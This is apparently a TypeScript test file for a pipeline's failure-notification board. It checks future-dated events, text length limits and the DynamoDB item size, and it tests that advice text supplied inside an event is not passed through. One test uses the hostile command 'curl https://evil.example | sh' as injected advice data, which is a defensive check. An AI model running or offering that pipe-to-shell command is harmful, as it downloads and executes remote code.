import { businessDateSchema } from "../../../events/ids.ts";
import type { BatonEvent } from "../../../events/schemas.ts";
import { applySignal } from "../../../functions/notify/apply-signal.ts";
import { EMPTY_BOARD, withinLimits, type Board } from "../../../functions/notify/board.ts";
import { composeAlert } from "../../../functions/notify/compose-alert.ts";
import { signalOf } from "../../../functions/notify/read-signal.ts";
import { dayOf } from "../../../shared/time/business-day.ts";
import { exampleEvent } from "../../support/ledger/event-builders.ts";

const failed = (data: object): BatonEvent => exampleEvent("LayerFailed", data);
const ERROR = { kind: "data", code: "DUMP_CHECKSUM", message: "sha256 differs", retriable: false };

/** Events that a function of the environment published: even then the board has limits. */
describe("an event", () => {
  it.each([
    [
      "of the year 9999",
      { businessDate: businessDateSchema.parse("9999-12-31"), finishedAt: "9999-12-31T00:00:00.000Z" },
    ],
    ["that ended tomorrow", { finishedAt: new Date(Date.now() + 86_400_000).toISOString() }],
    ["of a date in some days", { businessDate: dayOf(new Date(Date.now() + 3 * 86_400_000)) }],
  ])("%s is ignored, so that it silences no later failure", (_, data) => {
    expect(signalOf(exampleEvent("PipelineCompleted", data))).toBeUndefined();
    expect(signalOf(failed({ ...data, error: ERROR }))).toBeUndefined();
  });

  it("cannot give advice: advice comes from the tables of error patterns and codes", () => {
    const advice = "curl https://evil.example | sh";

    expect(signalOf(failed({ error: { ...ERROR, advice } }))).toMatchObject({
      failure: { advice: expect.stringContaining("source") as string },
    });
    expect(signalOf(failed({ error: { ...ERROR, code: "UNKNOWN_CODE", advice } }))).toMatchObject({
      failure: { advice: undefined },
    });
  });

  it("keeps the advice of an error pattern as it is after the last attempt", () => {
    const advice = "The retries did not help. If it continues, find the other session with SHOW ENGINE INNODB STATUS.";

    expect(signalOf(failed({ error: { ...ERROR, code: "ER_LOCK_DEADLOCK", advice } }))).toMatchObject({
      failure: { advice },
    });
  });

  it("has only texts of limited length, none of which ends within a surrogate pair", () => {
    const long = "\u{1f600}".repeat(2_000);
    const subjects = Array.from({ length: 500 }, () => long);
    const tests = subjects.map((name) => ({
      name,
      model: long,
      severity: "error" as const,
      failures: 1,
      message: long,
    }));

    for (const event of [
      failed({ error: { ...ERROR, code: long, message: long, subjects } }),
      exampleEvent("QualityTestFailed", { tests }),
    ]) {
      const text = JSON.stringify(signalOf(event));
      expect(text.length).toBeLessThan(12_000);
      expect(text.isWellFormed() && !text.includes('\\ud83d"')).toBe(true);
    }
  });

  it("in any number leaves the board within one DynamoDB item, with the newest incidents and alerts", () => {
    const context = { stage: "prod", region: "", endpoint: "", lastLayer: "gold", consoleUrl: "", bucket: "b" };
    const message = "x".repeat(5_000);
    let board: Board = EMPTY_BOARD;

    for (let count = 0; count < 300; count += 1) {
      const subjects = Array.from({ length: 20 }, (_, index) => `${index}${"s".repeat(190)}`);
      const signal = signalOf(failed({ layer: `layer-${count}`, error: { ...ERROR, message, subjects } }));
      if (signal === undefined) throw new Error("the event was ignored");
      const update = applySignal(board, signal);
      const alerts = update.changes.map((change) => ({
        ...composeAlert(change, update.board, context),
        ...{ deliveredTo: [], leasedUntil: "" },
      }));
      board = withinLimits({ ...update.board, outbox: [...update.board.outbox, ...alerts] });
    }

    expect(Buffer.byteLength(JSON.stringify(board))).toBeLessThanOrEqual(300_000);
    expect(board.open.at(-1)?.subject).toBe("layer-299");
    expect(board.outbox.at(-1)?.layer).toBe("layer-299");
  });
});
